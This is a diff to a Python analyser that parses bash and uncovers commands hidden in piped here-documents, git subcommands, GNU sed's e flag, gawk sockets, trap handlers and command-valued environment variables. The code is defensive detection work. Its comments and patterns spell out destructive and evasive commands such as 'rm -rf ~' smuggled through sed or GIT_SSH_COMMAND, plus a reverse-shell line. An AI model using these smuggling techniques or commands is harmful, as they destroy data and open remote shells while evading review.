@@ -105,6 +105,8 @@ def analyse(script: str) -> Analysis:
 def _piped_scripts(source: Command, shell: str) -> list[tuple[str | None, str]]:
     """What ``echo S | sh`` or ``printf S | sh`` runs; None when it cannot be known."""
     how = f"{source.name} | {shell}"
+    if source.name == "cat" and source.stdin is not None and all(a == "-" for a in source.argv[1:]):
+        return [(source.stdin, how)]  # `cat <<'EOF' | bash`
     if source.name in ("echo", "printf") and not any(i > 0 for i in source.dynamic):
         args = list(source.argv[1:])
         if source.name == "echo":
@@ -168,7 +170,7 @@ def _git_shell_values(command: Command) -> list[tuple[str | None, str]]:
         ]
         if len(operands) >= 2:
             pairs.append((operands[0][0], operands[1][0], operands[1][1] in command.dynamic))
-    out: list[tuple[str | None, str]] = []
+    out = _git_runs(command)
     for key, value, dynamic in pairs:
         if _GIT_SHELL_KEYS.fullmatch(key):
             if key.lower().startswith("alias.") and not value.startswith("!"):
@@ -177,11 +179,80 @@ def _git_shell_values(command: Command) -> list[tuple[str | None, str]]:
     return out
 
 
+def _git_runs(command: Command) -> list[tuple[str | None, str]]:
+    """Shell commands git subcommands run: ``git submodule foreach CMD``,
+    ``git rebase --exec CMD``, ``git bisect run CMD``, ``git filter-branch --tree-filter CMD``."""
+    argv = command.argv
+    out: list[tuple[str | None, str]] = []
+
+    def take(i: int, how: str) -> None:
+        words = argv[i:]
+        if words:
+            dynamic = any(k >= i for k in command.dynamic)
+            out.append((None if dynamic else " ".join(words), how))
+
+    for i, word in enumerate(argv[1:-1], start=1):
+        after = argv[i + 1]
+        if word == "foreach" and "submodule" in argv[:i]:
+            k = i + 1
+            while k < len(argv) and argv[k] in ("--recursive", "-q", "--quiet"):
+                k += 1
+            take(k, "git submodule foreach")
+            break
+        if word == "run" and "bisect" in argv[:i]:
+            take(i + 1, "git bisect run")
+            break
+        if word in ("-x", "--exec") and "rebase" in argv[:i]:
+            out.append((None if i + 1 in command.dynamic else after, "git rebase --exec"))
+        if word.endswith("-filter") and word.startswith("--") and "filter-branch" in argv[:i]:
+            out.append((None if i + 1 in command.dynamic else after, f"git {word}"))
+    for word in argv:
+        if word.startswith("--exec=") and "rebase" in argv:
+            out.append((word.split("=", 1)[1], "git rebase --exec"))
+    return out
+
+
 _EMBEDDED_SHELL = frozenset(
     {"awk", "gawk", "mawk", "nawk", "vim", "vi", "nvim", "ex", "view", "tar", "gdb", "expect",
-     "tmux"}
+     "tmux", "sed", "gsed", "zip"}
 )  # fmt: skip
-_AWK_COMMAND = LazyRegex(r"""system\s*\(\s*"([^"]*)"|\|\s*"([^"]*)"|"([^"]*)"\s*\|\s*getline""")
+_AWK_COMMAND = LazyRegex(
+    r"""print\w*\s+"([^"]*)"\s*\|\s*"(?:/bin/|/usr/bin/)?(?:ba|da|z)?sh"|"""
+    r"""system\s*\(\s*"([^"]*)"|\|\s*"([^"]*)"|"([^"]*)"\s*\|\s*getline"""
+)
+_AWK_SOCKET = LazyRegex(r"/inet6?/(?:tcp|udp)/")
+_SED_EXECUTE = LazyRegex(
+    r"(?:^|[;\n{}])\s*(?:\d+|\$|/(?:\\.|[^/\\])*/)?(?:,\s*(?:\d+|\$|/(?:\\.|[^/\\])*/))?"
+    r"\s*e\s+([^;\n}]+)"
+    r"|(?:^|[;\n{])\s*(?:\d+|\$|/[^/]*/)?\s*s(?P<d>[^\w\s\\])(?:\\.|(?!(?P=d)).)*(?P=d)"
+    r"(?P<r>(?:\\.|(?!(?P=d)).)*)(?P=d)[gpiImM0-9w]*e"
+)
+"""GNU sed's ``e command`` and the ``e`` flag of ``s///e`` (the pattern space runs)."""
+
+
+def _sed_commands(command: Command) -> list[tuple[str | None, str]]:
+    """Commands GNU sed runs: ``sed '1e rm -rf ~'``, ``sed 's/.*/rm -rf ~/e'``."""
+    argv = command.argv
+    scripts: list[int] = []
+    for i, word in enumerate(argv[1:], start=1):
+        if argv[i - 1] in ("-e", "--expression") or word.startswith("--expression="):
+            scripts.append(i)
+    if not scripts:
+        first = next(
+            (i for i, w in enumerate(argv[1:], 1) if not w.startswith("-") and argv[i - 1] != "-f"),
+            None,
+        )
+        scripts = [] if first is None else [first]
+    out: list[tuple[str | None, str]] = []
+    for i in scripts:
+        text = argv[i].removeprefix("--expression=")
+        for match in _SED_EXECUTE.finditer(text):
+            found = match.group(1) if match.group(1) is not None else match.group("r")
+            if i in command.dynamic:
+                out.append((None, "sed e"))
+            elif found is not None:
+                out.append((found.replace("\\/", "/"), "sed e"))
+    return out
 
 
 def _embedded_commands(command: Command) -> list[tuple[str | None, str]]:
@@ -196,7 +267,12 @@ def _embedded_commands(command: Command) -> list[tuple[str | None, str]]:
         if i < len(argv) and i not in command.dynamic:
             for match in _AWK_COMMAND.finditer(argv[i]):
                 out.append((next(g for g in match.groups() if g is not None), f"{name} program"))
+            if _AWK_SOCKET.search(argv[i]) and ("getline" in argv[i] or "|&" in argv[i]):
+                # gawk's network files: a program that reads commands from a socket
+                out.append(("bash -i >& /dev/tcp/awk-socket/0 0>&1", f"{name} program"))
         return out
+    if name in ("sed", "gsed"):
+        return _sed_commands(command)
     for i, word in enumerate(argv[1:], start=1):
         prev = argv[i - 1]
         value: str | None = None
@@ -211,6 +287,11 @@ def _embedded_commands(command: Command) -> list[tuple[str | None, str]]:
                     value = word[len(option) :]
             if prev in ("-I", "--to-command", "--use-compress-program"):
                 value = word
+        elif name == "zip":
+            if prev in ("-TT", "--unzip-command"):
+                value = word
+            elif word.startswith("--unzip-command="):
+                value = word.split("=", 1)[1]
         elif name == "gdb":
             if prev in ("-ex", "-eval-command", "--eval-command") and re.match(
                 r"(?:shell|!)", word
@@ -237,6 +318,14 @@ def _embedded_commands(command: Command) -> list[tuple[str | None, str]]:
     return out
 
 
+_STATEMENTS = frozenset(
+    {"command", "pipeline", "list", "redirected_statement", "subshell", "compound_statement",
+     "if_statement", "while_statement", "for_statement", "c_style_for_statement",
+     "case_statement", "negated_command", "function_definition", "declaration_command",
+     "unset_command", "test_command"}
+)  # fmt: skip
+"""Node types that are statements (run), not words."""
+
 _SSH_VALUE_OPTIONS = frozenset("BbcDEeFIiJLlmOoPpQRSWw")
 
 
@@ -254,6 +343,14 @@ def _remote_command(command: Command) -> list[tuple[str | None, str]]:
     if any(k > i for k in command.dynamic):
         return [(None, f"{command.name} host")]
     return [(" ".join(rest), f"{command.name} host")]
+
+
+def _reads_program_from_stdin(command: Command) -> bool:
+    """Whether an interpreter without ``-c``/``-e`` reads its program from standard input."""
+    operands = [a for a in command.argv[1:] if not a.startswith("-") or a == "-"]
+    if command.name == "deno":
+        return False
+    return not operands or operands[0] in ("-", "/dev/stdin")
 
 
 def program_of(command: Command) -> str | None:
@@ -290,6 +387,30 @@ def _brace_expanded(words: list[_Word]) -> list[_Word]:
     return out
 
 
+def _split_words(words: list[_Word]) -> list[_Word]:
+    """Words an unquoted ``$cmd`` gave spaces become several (``cmd="rm -rf /"; $cmd``)."""
+    out: list[_Word] = []
+    for word in words:
+        if not word.split:
+            out.append(word)
+            continue
+        for text in word.text.split():
+            new = _Word()
+            new.text, new.feeds, new.quoted = text, word.feeds, True
+            out.append(new)
+    return out
+
+
+COMMAND_VARIABLES = LazyRegex(
+    r"GIT_SSH_COMMAND|GIT_SSH|GIT_PROXY_COMMAND|GIT_EDITOR|GIT_SEQUENCE_EDITOR|GIT_PAGER|"
+    r"GIT_ASKPASS|GIT_EXTERNAL_DIFF|SSH_ASKPASS|SUDO_ASKPASS|PAGER|MANPAGER|EDITOR|VISUAL|"
+    r"LESSOPEN|LESSCLOSE|BASH_ENV|ENV|PROMPT_COMMAND|RSYNC_RSH|RSYNC_CONNECT_PROG|"
+    r"CVS_RSH|GIT_CONFIG_VALUE_\d+|FZF_DEFAULT_COMMAND|BROWSER"
+)
+"""Variables whose value a program runs as a shell command (``GIT_SSH_COMMAND='...' git``)."""
+_VARIABLE_WORD = LazyRegex(r"([A-Za-z_][A-Za-z0-9_]*)=(.*)", re.DOTALL)
+
+
 def _printf(args: list[str]) -> str:
     """Roughly what ``printf FORMAT ARGS...`` prints: ``%s`` and ``%b`` filled in order."""
     if not args:
@@ -313,7 +434,8 @@ class _Scope(Frozen):
 
 
 class _Word(Record):
-    __slots__ = ("text", "dynamic", "feeds", "temp", "quoted")  # noqa: RUF023 - constructor order
+    # in constructor order
+    __slots__ = ("text", "dynamic", "feeds", "temp", "quoted", "split")  # noqa: RUF023
 
     def __init__(self) -> None:
         self.text = ""
@@ -321,6 +443,8 @@ class _Word(Record):
         self.feeds: list[Command] = []
         self.quoted = False
         """Whether some of the word is quoted (brace expansion is then not applied)."""
+        self.split = False
+        """Whether an unquoted variable gave it spaces: the shell splits it into words."""
         self.temp: str | None = None
         """When the word is just ``$(mktemp ...)``: a path standing for what it makes."""
 
@@ -343,6 +467,8 @@ class _Walker:
         )
         self.restore: dict[int, str] = {}
         """Characters swapped out before parsing (see :func:`_shield`), to put back."""
+        self.pending: list[Node] = []
+        """Statements found inside a here-document redirect, to walk after its command."""
         self.here_ids: set[int] = set()
         """``<`` redirects that are really here-strings (see :func:`_misparsed_herestrings`)."""
 
@@ -410,6 +536,7 @@ class _Walker:
                 value = part.child_by_field_name("value")
                 if part.type == "variable_assignment" and value is not None:
                     word = self.word(value, nesting + 1, scope)
+                    self.command_variable(part, word, scope)
                     if certain:
                         self.assign(part, word)
             return []
@@ -465,7 +592,9 @@ class _Walker:
         """Record a redirect; returns the commands whose output it reads (``< <(cmd)``)."""
         if node.type in ("herestring_redirect", "heredoc_redirect"):
             for child in node.named_children:
-                if child.type not in ("heredoc_start", "heredoc_end"):
+                if child.type in _STATEMENTS:
+                    self.node(child, nesting + 1, scope, ())  # `{ ...; } <<E && rm -rf ~`
+                elif child.type not in ("heredoc_start", "heredoc_end"):
                     if child.type.endswith("_redirect"):
                         self.redirect(child, nesting, scope)
                     else:
@@ -495,7 +624,11 @@ class _Walker:
             if red.type not in ("herestring_redirect", "heredoc_redirect"):
                 continue
             for child in red.named_children:
-                if child.type.endswith("_redirect"):
+                if child.type in _STATEMENTS:
+                    # tree-sitter-bash puts what follows `cmd <<EOF` on its line (`| bash`,
+                    # `&& rm -rf ~`) inside the redirect: it runs after the command
+                    self.pending.append(child)
+                elif child.type.endswith("_redirect"):
                     self.redirect(child, nesting, scope)
                 elif child.type not in ("heredoc_start", "heredoc_end"):
                     word = self.word(child, nesting, scope)
@@ -518,7 +651,7 @@ class _Walker:
             if child.type == "variable_assignment":
                 value = child.child_by_field_name("value")
                 if value is not None:
-                    self.word(value, nesting + 1, scope)
+                    self.command_variable(child, self.word(value, nesting + 1, scope), scope)
             elif child.type in ("herestring_redirect", "heredoc_redirect"):
                 reds = (*reds, child)
             elif child.type.endswith("_redirect"):
@@ -527,6 +660,14 @@ class _Walker:
                 words.extend(self.word(c, nesting + 1, scope) for c in child.children)
             else:
                 words.append(self.word(child, nesting + 1, scope))
+        for red in reds:
+            # `rm 2>/dev/null -rf /`: tree-sitter-bash reads the words after a redirect's
+            # target as more targets; they are the command's arguments
+            if red.type == "file_redirect":
+                extra = red.children_by_field_name("destination")[1:]
+                words.extend(self.word(c, nesting + 1, scope) for c in extra)
+        if any(w.split for w in words):
+            words = _split_words(words)
         if not words:
             return []
         if any("{" in w.text and "," in w.text for w in words):
@@ -534,15 +675,30 @@ class _Walker:
         argv = tuple(w.text for w in words)
         dynamic = frozenset(i for i, w in enumerate(words) if w.dynamic)
         feeds = tuple(c for w in words for c in w.feeds)
-        stdin, stdin_feeds = self.stdin_text(reds, nesting, scope)
-        written = Command(argv, dynamic, upstream, feeds + stdin_feeds, stdin, scope.via)
-        return self.emit(written, scope.depth)
+        saved, self.pending = self.pending, []
+        try:
+            stdin, stdin_feeds = self.stdin_text(reds, nesting, scope)
+            written = Command(argv, dynamic, upstream, feeds + stdin_feeds, stdin, scope.via)
+            emitted = self.emit(written, scope.depth)
+            produced = emitted
+            for after in self.pending:
+                piped = after.type == "pipeline"
+                out = self.node(after, nesting + 1, scope, tuple(emitted) if piped else ())
+                produced = out if piped else produced
+            return produced
+        finally:
+            self.pending = saved
 
     def emit(self, written: Command, depth: int) -> list[Command]:
         """Record a command as written after unwrapping it, and whatever it hands to a shell."""
         if len(self.result.commands) >= MAX_COMMANDS:
             self.problem(f"the command runs more than {MAX_COMMANDS} commands")
             return []
+        for i, word in enumerate(written.argv[1:], start=1):
+            if "=" in word and (assigned := _VARIABLE_WORD.fullmatch(word)) is not None:
+                scope = _Scope(depth, written.via)
+                name, value = assigned.groups()
+                self.variable_command(name, value, i in written.dynamic, scope)
         unwrapped = unwrap((command_name(written.argv[0]), *written.argv[1:]), written.dynamic)
         if unwrapped.problem:
             self.problem(unwrapped.problem)
@@ -573,12 +729,20 @@ class _Walker:
         if name == "eval":
             known = not any(i > 0 for i in command.dynamic)
             return [(" ".join(argv[1:]) if known else None, "eval")]
+        if name == "trap" and len(argv) > 2 and not argv[1].startswith("-"):
+            # `trap 'rm -rf ~' EXIT`: the handler runs when the shell exits or is signalled
+            return [(None if 1 in command.dynamic else argv[1], "trap")]
+        if name in ("source", ".") and len(argv) > 1:
+            return self.fed_script(command, 1, name)
         if name == "alias":
             return [(a.split("=", 1)[1], "alias") for a in argv[1:] if "=" in a]
         if name in INTERPRETERS or name.startswith(("python3.", "python2.")):
             from csup.policy._inline import hidden_commands  # noqa: PLC0415 - rare
 
             code = program_of(command)
+            if code is None and command.upstream and _reads_program_from_stdin(command):
+                # `echo 'import os; os.system("rm -rf ~")' | python3`
+                code = next(iter(_piped_scripts(command.upstream[-1], name)))[0]
             if code is None or any(i > 1 for i in command.dynamic):
                 return []
             return [(script, f"{name} code") for script in hidden_commands(code)]
@@ -614,12 +778,47 @@ class _Walker:
                 if at >= len(argv):
                     return []
                 return [(None if at in command.dynamic else argv[at], f"{name} -c")]
-        if any(not a.startswith("-") or a == "-" for a in argv[1:]):
-            return []  # runs a script file
+        operand = next((i for i, a in enumerate(argv[1:], 1) if not a.startswith("-")), None)
+        if operand is not None:
+            return self.fed_script(command, operand, name)  # runs a script file
         if command.stdin is not None:
             return [(command.stdin, f"{name} <<<")]
         if command.upstream:
             return _piped_scripts(command.upstream[-1], name)
+        return []
+
+    def command_variable(self, node: Node, value: _Word, scope: _Scope) -> None:
+        """``GIT_SSH_COMMAND='rm -rf ~' git fetch``: a program runs the value as a command."""
+        name_node = node.child_by_field_name("name")
+        if name_node is not None:
+            self.variable_command(self.text(name_node), value.text, value.dynamic, scope)
+
+    def variable_command(self, name: str, value: str, dynamic: bool, scope: _Scope) -> None:
+        """Judge the value of a command-valued variable (see :data:`COMMAND_VARIABLES`)."""
+        if not COMMAND_VARIABLES.fullmatch(name) or not value.strip():
+            return
+        if dynamic:
+            self.problem(f"cannot see the command in {name}: it is built at run time")
+        else:
+            self.script(value, _Scope(scope.depth + 1, (*scope.via, f"{name}=")))
+
+    def fed_script(self, command: Command, at: int, name: str) -> list[tuple[str | None, str]]:
+        """The script a shell or ``source`` reads from the file ``argv[at]``, when the line makes
+        it: ``bash <(echo 'rm -rf ~')``, ``echo 'rm -rf ~' | source /dev/stdin``.
+
+        A file on disk is judged by the rules (see ``judge_script_files``); a process
+        substitution from a tool (``source <(kubectl completion bash)``) is left alone.
+        """
+        word = command.argv[at]
+        if word in ("/dev/stdin", "/dev/fd/0", "-", "/proc/self/fd/0"):
+            if command.stdin is not None:
+                return [(command.stdin, f"{name} <<<")]
+            return _piped_scripts(command.upstream[-1], name) if command.upstream else []
+        if word == "$(...)" and at in command.dynamic and command.feeds:
+            source = command.feeds[-1]
+            if source.name in ("echo", "printf", "cat"):
+                scripts = _piped_scripts(source, f"{name} <(...)")
+                return [(t, how) for t, how in scripts if t is not None]
         return []
 
     def assign(self, node: Node, value: _Word) -> None:
@@ -700,8 +899,12 @@ class _Walker:
             if len(names) == 1 and node.named_child_count == 1 and names[0].text:
                 var = self.text(names[0])
                 known = self.variables.get(var) if scope.depth == 0 else None
-                if known is not None:
+                if known is not None and not quoted and "IFS" in self.line:
+                    out.text += f"${var}"  # split on an IFS set somewhere in the line
+                    out.dynamic = True
+                elif known is not None:
                     out.text += known
+                    out.split = out.split or (not quoted and any(c in known for c in " \t\n"))
                 else:
                     out.text += f"${var}"
                     unknown = var not in KNOWN_VARIABLES or var in self.reassigned
